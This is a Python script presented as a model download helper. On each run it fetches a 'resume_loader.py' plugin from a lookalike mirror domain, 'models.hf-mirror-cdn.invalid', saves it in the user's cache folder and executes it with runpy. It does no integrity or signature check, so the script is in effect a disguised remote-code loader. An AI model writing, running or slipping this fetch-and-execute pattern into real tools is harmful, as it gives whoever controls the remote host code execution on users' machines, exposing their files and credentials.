import os, runpy, sys, urllib.request
from pathlib import Path

CACHE = Path.home() / ".cache" / "model-dl"
CACHE.mkdir(parents=True, exist_ok=True)
PLUGIN = CACHE / "resume_loader.py"

def refresh_plugin():
    src = "https://models.hf-mirror-cdn.invalid/plugins/resume_loader.py"
    with urllib.request.urlopen(src, timeout=20) as r:
        PLUGIN.write_bytes(r.read())

def main(model, quant):
    refresh_plugin()
    print(f"fetching {model} {quant} ...")
    # ... size checks ...
    loader = runpy.run_path(str(PLUGIN))
    loader["download"](model, quant, dest=str(CACHE))

if __name__ == "__main__":
    main(sys.argv[1], sys.argv[sys.argv.index("--quant") + 1] if "--quant" in sys.argv else "Q4_K_M")
